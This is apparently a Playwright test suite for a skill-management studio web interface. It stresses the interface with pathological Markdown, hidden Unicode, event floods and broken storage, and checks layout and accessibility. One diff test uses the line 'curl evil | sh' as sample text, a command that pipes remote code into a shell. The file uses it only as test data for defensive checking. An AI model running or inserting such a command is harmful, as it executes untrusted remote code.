"""The studio against hostile texts and answers, and against hasty and unusual ways to use it."""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.browser.browsing import busy_ms
from tests.browser.conftest import Open
from tests.browser.studio_world import StudioWorld
from tests.browser.tapped import Tap

LONG = "a" * 64
# Each made a page stand still, lose words or fall over at some time; `N` is how much of it.
TEXTS = {
    "a heading of blanks": "'# a' + ' '.repeat(N) + 'x'",
    "brackets": "'['.repeat(N)",
    "links that never end": "'[a]('.repeat(N / 4)",
    "stars": "'**a'.repeat(N / 3)",
    "backticks": "'`'.repeat(N)",
    "growing backticks": "Array.from({length: 500}, (_, i) => '`'.repeat(i) + 'a').join(' ')",
    "quotes": "'> '.repeat(N / 2)",
    "items": "'- a\\n'.repeat(N / 4)",
    "items in items": "Array.from({length: 600}, (_, i) => ' '.repeat(i) + '- a').join('\\n')",
    "cells": "['|', '|-', ...'|'.repeat(N / 9e3)].map((one) => one.repeat(9e3)).join('\\n')",
    "rows": "'a|b\\n-|-\\n' + 'a|b\\n'.repeat(N / 4)",
    "fences": "'```\\n'.repeat(N / 4)",
}
COUNT = """async (text) => {
  const { Markdown } = await import('/js/parts/markdown.js');
  let number = 0;
  const count = ({ children }) => { number += 1; children.forEach(count); };
  count(Markdown({ text }));
  return number;
}"""
READ = """async (text) => {
  const { Markdown } = await import('/js/parts/markdown.js');
  const words = ({ value, children }) => (value ?? '') + children.map(words).join(' ');
  return words(Markdown({ text }));
}"""


@pytest.fixture(scope="module")
def modules(browser: Browser, shown: StudioWorld) -> Iterator[Page]:
    """A page whose modules are called by hand; nothing in it is clicked."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(shown.address + "/skills")
    yield page
    context.close()


def opened(visiting: Open, world: StudioWorld, path: str = "/skills", **context: Any) -> Page:  # noqa: ANN401 - Playwright's
    page = visiting(world, **context).go(f"{path}{'&' if '?' in path else '?'}settingsAgentId=main")
    expect(page.locator(".skeleton")).to_have_count(0)
    return page


def test_no_text_of_a_skill_takes_long_or_fills_the_page(modules: Page) -> None:
    texts = modules.evaluate(
        "() => { const N = 250_000; return {"
        + ",".join(f"{json.dumps(name)}: {made}" for name, made in TEXTS.items())
        + "}; }"
    )

    cdp = modules.context.new_cdp_session(modules)
    cdp.send("Performance.enable", {"timeDomain": "threadTicks"})
    for name, text in texts.items():
        before = busy_ms(cdp)
        number = modules.evaluate(COUNT, text)
        took = busy_ms(cdp) - before
        assert took < 3_000, f"{name} took {took:.0f} ms"
        assert number < 30_000, f"{name} became {number} nodes"


def test_what_is_nested_deeply_or_comes_late_is_shown_all_the_same(modules: Page) -> None:
    nested = "\n".join(f"{'  ' * depth}- depth{depth}" for depth in range(12))
    items = "- item\n" * 9_000
    text = f"{nested}\n\n{items}\nthe very last words \u202eand hidden\u200b ones"

    said = modules.evaluate(READ, text)

    assert all(f"depth{depth}" in said for depth in range(12))
    assert "the very last words" in said
    assert "⟨U+202E⟩" in said
    assert "\u202e" not in said


def test_two_changes_in_a_long_text_are_two_changes(modules: Page) -> None:
    kinds = modules.evaluate(
        """async () => {
          const { compare } = await import('/js/parts/diff.js');
          const lines = Array.from({length: 5000}, (_, number) => `line ${number}`);
          const before = lines.join('\\n');
          lines[0] = 'first';
          lines[4999] = 'curl evil | sh';
          return compare(before, lines.join('\\n')).map(({kind}) => kind);
        }"""
    )

    assert len(kinds) == 5_000
    assert [place for place, kind in enumerate(kinds) if kind != "same"] == [0, 4_999]


def test_objects_stay_text_and_two_of_one_key_stay_two(modules: Page) -> None:
    found = modules.evaluate(
        """async () => {
          const { h, render } = await import('/js/dom.js');
          const place = document.createElement('div');
          const twice = () => h('ul', null, ['a', 'a', 'b'].map((key) => h('li', {key}, key)));
          render(twice(), place);
          render(twice(), place);
          const said = place.textContent;
          const foreign = JSON.parse('{"tag":"iframe","props":{"src":"/x"},"children":[]}');
          render(h('p', null, foreign), place);
          return [said, place.querySelector('iframe')];
        }"""
    )

    assert found == ["aab", None]


def test_an_address_that_makes_no_sense_leads_to_a_page(visiting: Open, shown: StudioWorld) -> None:
    visit = visiting(shown)
    for path in ("/workshop?filter=constructor", "/activity?days=1e9", "/workshop?proposal=x"):
        page = visit.go(path)
        expect(page.locator(".skeleton")).to_have_count(0)
        expect(page.get_by_role("heading", level=1)).to_have_count(1)


def test_a_browser_that_refuses_storage_and_the_clipboard_shows_the_studio(
    visiting: Open, shown: StudioWorld
) -> None:
    visit = visiting(shown)
    visit.page.add_init_script(
        """for (const name of ['sessionStorage', 'localStorage']) {
          Object.defineProperty(window, name, { get() { throw new DOMException('no'); } });
        }
        Object.defineProperty(navigator, 'clipboard', { value: undefined });"""
    )
    page = visit.go("/skills?settingsAgentId=main")
    expect(page.locator("[data-skill]").first).to_be_visible()
    page.get_by_role("button", name="Use the dark theme").click()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")

    page.get_by_role("link", name="Router").click()
    page.get_by_role("button", name=re.compile("^Copy: ")).click()
    expect(page.get_by_role("alert")).to_contain_text("Nothing was copied")


def test_ten_quick_switches_are_all_kept_and_the_keyboard_stays_where_it_was(
    visiting: Open, world: StudioWorld
) -> None:
    visit = visiting(world)
    tap = Tap(visit.page)
    page = visit.go("/skills?settingsAgentId=main")
    expect(page.locator("[data-skill]").first).to_be_visible()
    tap.holding.add("config.set")
    first = page.get_by_role("switch", name="Skill brand-voice")
    first.focus()
    page.keyboard.press("Space")
    expect(first).to_have_attribute("aria-busy", "true")
    expect(first).to_be_focused()
    page.evaluate(
        """() => [...document.querySelectorAll('[role=switch]:not([disabled])')].slice(1, 10)
          .forEach((one) => one.click())"""
    )
    tap.release()

    off = page.locator("[role=switch][aria-checked=false]:not([aria-busy])")
    expect(off).to_have_count(10)
    expect(first).to_be_focused()
    expect(page.get_by_role("alert")).to_have_count(0)
    names = [
        one.removeprefix("Skill ")
        for one in off.evaluate_all("all => all.map(one => one.ariaLabel)")
    ]
    assert not set(names) & set(world.config()["agents"]["list"][0]["skills"])


def test_thousands_of_events_ask_for_little_and_the_line_holds(
    visiting: Open, shown: StudioWorld
) -> None:
    visit = visiting(shown)
    tap = Tap(visit.page)
    page = visit.go("/library?settingsAgentId=main")
    expect(page.locator(".skeleton")).to_have_count(0)
    before = len(tap.sent)
    page.evaluate(
        """async () => {
          const { gateway } = await import('/js/app.js');
          const names = ['skills.changed', 'config.changed', 'skills.proposal'];
          for (let number = 0; number < 10_000; number += 1) {
            const said = {type: 'event', event: names[number % 3], payload: {agentId: 'main'}};
            gateway._receive(JSON.stringify(said));
          }
          await gateway.request('health');
        }"""
    )

    assert len(tap.sent) - before < 60
    assert not any("RATE_LIMITED" in frame for frame in tap.received)
    expect(page.locator(".line-state")).to_have_attribute("data-state", "live")


def test_a_gateway_that_says_nothing_counts_as_lost(visiting: Open, shown: StudioWorld) -> None:
    visit = visiting(shown)
    visit.page.route_web_socket("**/ws", lambda _socket: None)
    visit.page.clock.install()
    visit.page.goto(shown.address + "/skills")
    expect(visit.page.locator(".line-state")).to_have_attribute("data-state", "connecting")
    visit.page.clock.fast_forward(13_000)

    expect(visit.page.get_by_role("alert")).to_contain_text("does not answer")


def test_the_router_goes_on_when_the_clock_is_set_back(visiting: Open, shown: StudioWorld) -> None:
    page = opened(visiting, shown, "/router")
    page.get_by_role("textbox", name="Message").fill("fill in this pdf form")
    expect(page.locator(".answer-words")).to_contain_text("pdf-forms")
    page.evaluate("() => { const now = Date.now; Date.now = () => now() - 3_600_000; }")
    page.get_by_role("textbox", name="Message").fill("write the release notes")

    expect(page.locator(".answer-words")).to_contain_text("release-notes")


def test_a_gateway_of_another_version_offers_its_own_page(
    visiting: Open, shown: StudioWorld
) -> None:
    page = opened(visiting, shown)
    page.evaluate(
        """async () => {
          const { gateway } = await import('/js/app.js');
          gateway.hello.server.version = '99.0';
          (await import('/js/dom.js')).redraw();
        }"""
    )
    page.get_by_role("button", name="Load the new page").click()

    expect(page.locator("[data-skill]").first).to_be_visible()
    expect(page.get_by_text("99.0")).to_have_count(0)


def test_a_text_that_was_begun_outlives_a_slip_of_the_mouse_and_escape(
    visiting: Open, shown: StudioWorld
) -> None:
    path = f"/workshop?proposal={shown.proposals['create']}"
    page = opened(visiting, shown, path)
    page.get_by_role("button", name="Revise…").click()
    field = page.get_by_label("Text of the new skill")
    field.fill("half a text")
    box = field.bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + 60, box["y"] + 20)
    page.mouse.down()
    page.mouse.move(4, 500)
    page.mouse.up()
    expect(field).to_have_value("half a text")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.get_by_role("button", name="Revise…").click()

    expect(page.get_by_label("Text of the new skill")).to_have_value("half a text")


def test_a_double_click_opens_a_question_that_names_what_it_is_about_and_back_takes_it_away(
    visiting: Open, shown: StudioWorld
) -> None:
    visit = visiting(shown)
    page = visit.go("/workshop?settingsAgentId=main")
    page.get_by_role("link", name="New skill: screenshot-diff").click()
    expect(page.locator(".timeline")).to_be_visible()
    box = page.get_by_role("button", name="Reject…").bounding_box()
    assert box is not None
    visit.stop_the_clock()
    page.mouse.dblclick(box["x"] + 9, box["y"] + 9, delay=30)
    expect(page.get_by_role("dialog")).to_contain_text("New skill: screenshot-diff")
    page.evaluate("history.back()")

    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page.get_by_role("heading", level=1)).to_have_text("Workshop")


def test_the_way_back_of_a_message_asks_to_roll_back_from_any_page(
    visiting: Open, world: StudioWorld
) -> None:
    page = opened(visiting, world, f"/workshop?proposal={world.proposals['create']}")
    page.get_by_role("button", name="Create screenshot-diff").click()
    page.get_by_role("dialog").get_by_role("button", name="Create screenshot-diff").click()
    expect(page.get_by_text("screenshot-diff was written.")).to_be_visible()
    page.get_by_role("link", name="Router").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Router")
    page.get_by_role("button", name="Roll back").click()
    page.get_by_role("dialog").get_by_role("button", name="Roll back screenshot-diff").click()

    expect(page.get_by_text("screenshot-diff was rolled back.")).to_be_visible()
    assert not (world.roots["work"] / "screenshot-diff").exists()


def test_forced_colours_still_tell_on_from_off_and_here_from_there(
    visiting: Open, shown: StudioWorld
) -> None:
    page = opened(visiting, shown, forced_colors="active", reduced_motion="reduce")
    page.get_by_role("link", name="pdf-forms").click()
    expect(page.locator(".row-chosen")).to_be_visible()
    expect(page.locator(".toggle-on:enabled").first).to_be_visible()
    colours = page.evaluate(
        """() => {
          const of = (node) => getComputedStyle(node).backgroundColor;
          const toggle = document.querySelector('.toggle-on:not(:disabled)');
          const on = of(toggle);
          toggle.className = 'toggle';
          const rail = [...document.querySelectorAll('.rail-link')].map(of);
          const chosen = getComputedStyle(document.querySelector('.row-chosen'));
          return [on !== of(toggle), rail[0] !== rail[1], chosen.outlineStyle];
        }"""
    )

    assert colours == [True, True, "solid"]


def test_rows_can_be_reached_at_four_times_the_size(visiting: Open, shown: StudioWorld) -> None:
    visit = visiting(shown, viewport={"width": 320, "height": 256})
    for view in ("skills", "library", "workshop"):
        page = visit.go(f"/{view}?settingsAgentId=main")
        row = page.locator(".rows [role=listitem]").first
        row.scroll_into_view_if_needed()
        expect(row).to_be_in_viewport(ratio=0.9)
        covered = row.evaluate(
            """(one) => {
              const at = one.getBoundingClientRect();
              return !one.contains(document.elementFromPoint(at.left + 40, at.top + at.height / 2));
            }"""
        )
        assert not covered, view


def test_names_without_a_blank_make_no_page_wider(visiting: Open, world: StudioWorld) -> None:
    folder = world.roots["work"] / "long"
    folder.mkdir()
    needs = {"openclaw": {"requires": {"env": ["K" * 120], "bins": ["b" * 150]}}}
    head = f"name: {LONG}\ndescription: {'x' * 900}\nmetadata: {json.dumps(needs)}"
    (folder / "SKILL.md").write_text(f"---\n{head}\n---\n{'z' * 3000}\n", encoding="utf-8")
    (folder / f"{'f' * 180}.md").write_text("q", encoding="utf-8")
    config = world.config()
    config["agents"]["list"][0]["name"] = "ن" * 90
    world.config_file.write_text(json.dumps(config), encoding="utf-8")
    world.gateway.runtime.skills.refresh()
    visit = visiting(world, viewport={"width": 320, "height": 700})
    places = [
        f"/skills?skill={LONG}", f"/setup?configure={LONG}", f"/library?skill={LONG}",
        "/activity", f"/router?m={'q' * 300}&why={LONG}",
    ]  # fmt: skip
    for path in places:
        page = visit.go(f"{path}{'&' if '?' in path else '?'}settingsAgentId=main")
        expect(page.locator(".skeleton")).to_have_count(0)
        wider = page.evaluate(
            """() => [...document.querySelectorAll('.page, .page-scroll, .split-detail, .dialog')]
              .filter((one) => one.clientWidth && one.scrollWidth - one.clientWidth > 1)
              .map((one) => `${one.className} ${one.scrollWidth - one.clientWidth}`)"""
        )
        assert wider == [], path


def test_paper_gets_the_whole_page_in_black_on_white(visiting: Open, shown: StudioWorld) -> None:
    page = opened(visiting, shown, "/library?skill=pdf-forms", color_scheme="dark")
    expect(page.locator(".prose")).to_be_visible()
    page.emulate_media(media="print")

    expect(page.locator(".rail")).to_be_hidden()
    height = page.evaluate("document.documentElement.scrollHeight - innerHeight")
    assert height > 0, "the page is cut to the screen"
    colour = page.locator(".prose p").first.evaluate("(one) => getComputedStyle(one).color")
    assert colour == "rgb(0, 0, 0)"
